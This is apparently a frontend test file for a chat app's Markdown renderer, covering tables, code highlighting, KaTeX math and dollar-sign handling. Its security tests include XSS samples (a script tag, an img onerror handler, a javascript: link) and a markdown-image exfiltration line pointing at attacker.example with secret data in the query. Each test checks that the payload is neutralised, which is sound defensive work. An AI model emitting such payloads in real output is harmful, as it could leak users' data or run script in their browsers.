import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { Markdown } from "@/components/chat/Markdown";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("Markdown", () => {
  it("renders GitHub tables, lists and code with highlighting", () => {
    const html = render("| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```python\nprint('hi')\n```");
    expect(html).toContain("<table>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain('class="hljs language-python"');
    expect(html).toContain("Copy");
  });

  it("renders math with KaTeX", () => {
    expect(render("Euler: \\( e^{i\\pi} + 1 = 0 \\)")).toContain('class="katex"');
    expect(render("$$\nx^2\n$$")).toContain("katex-display");
  });

  it.each([
    ["Vercel raised $300M at about a $9.3B valuation.", ["$300M", "$9.3B"]],
    ["The plan costs $20 a month, or $200 a year.", ["$20", "$200"]],
    ["Between $5 and $10, most pick $7.50.", ["$5", "$10", "$7.50"]],
    ["Revenue rose from $1.2 million to $3 million.", ["$1.2 million", "$3 million"]],
  ])("shows dollar amounts as text, not math: %s", (sentence, amounts) => {
    const html = render(sentence);
    expect(html).not.toContain("katex");
    for (const amount of amounts) expect(html).toContain(amount);
  });

  it("keeps the math models write beside prices", () => {
    // Two inline formulas and one display block, each one KaTeX element.
    const html = render("It costs $5, and \\( a^2 + b^2 = c^2 \\) holds; so does $$x+1$$.\n\n\\[ \\int_0^1 x\\,dx \\]");
    expect(html).toContain("$5");
    expect(html.match(/class="katex"/g)?.length).toBe(3);
    expect(html).toContain("katex-display");
  });

  it("shows raw HTML as text and never as markup", () => {
    const html = render('Hi <script>alert("x")</script> <img src=x onerror="alert(1)">');
    expect(html).not.toContain("<script");
    expect(html).not.toContain("<img");
    expect(html).toContain("&lt;script&gt;");
    expect(html).toContain("&lt;img src=x onerror=");
  });

  it("shows a remote image as a link, never loading it", () => {
    const html = render("![chart](https://attacker.example/p.png?d=secret-data)");
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://attacker.example/p.png?d=secret-data"');
    expect(html).toContain("Image: chart");
  });

  it("shows images of our own: code interpreter files and data URLs", () => {
    expect(render("![plot](/api/container_files/content?file_id=cfile_1)")).toContain(
      '<img src="/api/container_files/content?file_id=cfile_1" alt="plot"',
    );
    expect(render("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img");
  });

  it("drops javascript: links", () => {
    const html = render("[click](javascript:alert(1))");
    expect(html).not.toContain("javascript:");
  });

  it("opens links in a new tab without handing over the opener", () => {
    expect(render("[docs](https://example.com)")).toContain('rel="noopener noreferrer nofollow"');
  });
});
